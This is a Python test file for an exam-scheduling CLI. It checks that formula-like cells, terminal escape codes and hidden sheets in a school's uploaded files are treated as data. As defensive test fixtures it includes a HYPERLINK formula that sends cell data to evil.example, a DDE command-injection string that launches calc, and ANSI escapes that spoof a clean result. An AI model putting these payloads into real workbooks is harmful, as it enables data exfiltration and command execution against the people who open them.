"""Issue 23 end to end: text from a school's file is data — never a live formula in a workbook a command writes,
never a terminal escape in what a command prints, and a hidden sheet is named by every command. The pure checks
(:mod:`xcert_core.text_safety`) are tested in ``tests/core/test_text_safety.py``, the workbook adapters in
``tests/adapters/test_workbook_hostile_text.py``."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import zipfile
from pathlib import Path

import openpyxl

from cli_run import XCERT
from cli_run import xcert as run
from hostile_files import formulas_in, workbook_with_hidden_sheets
from photo_files import photo_bytes, write_zip
from roster_files import GOOD_ROWS, write_roster_csv, write_roster_xlsx
from test_schedule_cli import PROCTOR_HEADER
from test_schedule_workspace import PLAN, fill, room_sheet, stored, write_xlsx
from test_schedule_workspace import xcert as in_workspace
from xcert_adapters.workspace import Workspace
from xcert_core.model import Candidate, Registration
from xcert_core.plugins import make_plugin_manager
from xcert_core.ports.workbooks import WorkbookWriter
from xcert_core.registry import AdapterKind
from xcert_core.testing.writer_contract import WorkbookWriterContract

PLUGINS = make_plugin_manager()
WRITERS = PLUGINS.registry.names(AdapterKind.WORKBOOK_WRITER)

# --- end to end: a hostile roster, rooms and proctors through every workbook xcert writes --------------------

FORMULA_PROGRAM = '=HYPERLINK("http://evil.example/?id="&E4&F4,"点击核对")'
FORMULA_ROOM = "=cmd|' /C calc'!A0"


def as_text_cells(path: Path) -> Path:
    """Rewrite ``path`` so that every cell openpyxl took for a formula is the text cell a school's file holds
    (a text-formatted cell where someone typed ``=…``)."""
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    workbook.save(path)
    assert formulas_in(path) == []
    return path


def test_formula_like_cells_never_come_back_as_formulas(tmp_path: Path) -> None:
    """The issue's "done when": cells starting with =, +, -, @ go through check → report, import → 排考明细 and
    the other lists → the platform package, and no workbook xcert wrote has a formula; the texts are there."""


    ws = tmp_path / "ws"
    assert run("init", str(ws), "--school-code", "4133010001", "--school", "示范职业技术学院",
               "--year", "2026").returncode == 0
    fill(ws, 0)
    rows = [list(row) for row in GOOD_ROWS]
    rows[0][8] = FORMULA_PROGRAM
    rows[1][8] = "@SUM(1+1)"
    roster = write_roster_csv(tmp_path / "名单.csv", rows)
    outputs = tmp_path / "out"
    outputs.mkdir()

    checked = in_workspace(ws, "students", "check", roster, "--json", "--report", outputs / "报告.xlsx")
    assert checked.returncode == 0, checked.stdout + checked.stderr

    found = {(i["row"], i["code"]) for i in json.loads(checked.stdout)["issues"]}
    assert {(2, "text-formula-like"), (3, "text-formula-like")} <= found
    assert in_workspace(ws, "students", "import", roster).returncode == 0
    with Workspace.open(ws) as workspace, workspace.storage.transaction() as tx:
        for person in tx.list(Candidate):
            tx.put(Registration(PLAN, person.id_number, person.school_code, "1550001066020254", "18"))
    rooms = as_text_cells(room_sheet(tmp_path / "考场.xlsx", [("18", "考点18", FORMULA_ROOM, "+机房", 30, None, None)]))
    proctors = as_text_cells(write_xlsx(tmp_path / "监考.xlsx", "监考人员导入模板", PROCTOR_HEADER,
                          [("T01", "-老师", "13812340001", None, "@太原", "监考", None),
                           ("T02", "老师二", "13812340002", None, "太原", "监考", None),
                           ("X01", "巡考", "13912340001", None, "太原", "巡考", None)]))
    assert in_workspace(ws, "rooms", "import", rooms, "--plan", PLAN).returncode == 0
    assert in_workspace(ws, "proctors", "import", proctors).returncode == 0
    scheduled = in_workspace(ws, "schedule", "--plan", PLAN, "--report", outputs / "排考汇总.xlsx")
    assert scheduled.returncode == 0, scheduled.stdout + scheduled.stderr
    documents = in_workspace(ws, "documents", "--plan", PLAN, "--out", outputs / "pack")
    assert documents.returncode == 0, documents.stdout + documents.stderr
    exported = in_workspace(ws, "export", "platform", "--out", outputs / "platform")
    assert exported.returncode in (0, 1), exported.stdout + exported.stderr

    written = sorted(outputs.rglob("*.xlsx"))
    assert len(written) >= 5, written
    texts: set[str] = set()
    for path in written:
        assert formulas_in(path) == [], path
        for sheet in openpyxl.load_workbook(path).worksheets:
            texts |= {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert {FORMULA_PROGRAM, "@SUM(1+1)", FORMULA_ROOM, "+机房", "-老师", "@太原"} <= texts
    assert stored(ws, Registration)


# --- terminal escapes ----------------------------------------------------------------------------------------


def with_escape(path: Path, placeholder: str, escaped: str) -> Path:
    """Replace ``placeholder`` in the workbook's XML by ``escaped`` (Excel's ``_x001B_`` form of a control
    character, which every reader decodes)."""
    parts = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name).replace(placeholder.encode(), escaped.encode())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def on_a_terminal(*args: str | Path) -> str:
    """What ``xcert args…`` prints to a terminal (a pseudo-terminal: click strips escapes only when the output
    is not a terminal, so a pipe would hide what a user sees)."""

    main, child = pty.openpty()
    process = subprocess.Popen([*XCERT, *map(str, args)],
                               stdout=child, stderr=child, stdin=subprocess.DEVNULL,
                               env={**os.environ, "XCERT_DISABLE_PLUGINS": "*"})
    os.close(child)
    chunks = []
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    process.wait(timeout=120)
    os.close(main)
    return b"".join(chunks).decode("utf-8", "replace")


def test_control_characters_in_cells_are_shown_not_obeyed(tmp_path: Path) -> None:

    rows = [list(row) for row in GOOD_ROWS]
    rows[0][8] = "PLACEHOLDER"
    roster = with_escape(write_roster_xlsx(tmp_path / "\x1b[2J\x1b[H名单.xlsx", rows), "PLACEHOLDER",
                         "_x001B_[2J_x001B_[H没有发现问题")
    shown = on_a_terminal("students", "check", roster)
    assert "\x1b" not in shown
    assert "␛[2J␛[H名单.xlsx" in shown  # the file name, as the stream shows it
    assert "控制字符 ␛" in shown and "text-control-character" in shown
    assert run("students", "check", str(roster)).returncode == 1
    as_json = run("students", "check", str(roster), "--json")
    assert "\x1b" not in as_json.stdout

    issues = json.loads(as_json.stdout)["issues"]
    assert {(i["row"], i["column"], i["code"], i["severity"]) for i in issues if i["code"].startswith("text-")} == {
        (4, "就读专业", "text-control-character", "error")}


def test_a_zip_entry_name_with_an_escape_is_shown_not_obeyed(tmp_path: Path) -> None:

    path = write_zip(tmp_path / "照片.zip", [("\x1b[2J\x1b[32m没有发现问题\x9b0m.jpg", photo_bytes())])
    assert run("photos", "check", str(path)).returncode == 1
    shown = on_a_terminal("photos", "check", path)
    assert "\x1b" not in shown and "\x9b" not in shown
    assert "␛[2J" in shown


# --- hidden worksheets ---------------------------------------------------------------------------------------


def test_a_hidden_sheet_is_warned_about_in_every_command(tmp_path: Path) -> None:
    path = workbook_with_hidden_sheets(tmp_path / "名单.xlsx")
    result = run("students", "check", str(path), "--json")
    report = json.loads(result.stdout)
    assert report["rows"] == 2, report  # the visible sheet's two students, not the hidden one
    hidden = [i for i in report["issues"] if i["code"] == "sheet-hidden"]
    assert len(hidden) == 1 and hidden[0]["severity"] == "warning"
    assert "“旧名单”、“草稿”" in hidden[0]["message"] and "本校学生" in hidden[0]["message"]
    picked = json.loads(run("students", "check", str(path), "--sheet", "旧名单", "--json").stdout)
    assert picked["rows"] == 1


def test_a_large_check_on_a_terminal_draws_its_progress_bar(tmp_path: Path) -> None:
    """The progress bar draws on the unfiltered stream (its own cursor codes must work) while the school's text
    is still shown, not obeyed."""
    rows = [list(GOOD_ROWS[0]) for _ in range(3500)]
    shown = on_a_terminal("students", "check", write_roster_csv(tmp_path / "名单.csv", rows))
    assert "已完成" in shown and "检查 3500 行" in shown and "Traceback" not in shown
    assert "id-number-duplicate" in shown


class TestTheBuiltInWriterKeepsTheContract(WorkbookWriterContract):
    """The suite plug-in authors run (``xcert_core.testing.writer_contract``), on the built-in writer."""

    def make_writer(self) -> WorkbookWriter:
        return PLUGINS.workbook_writer()
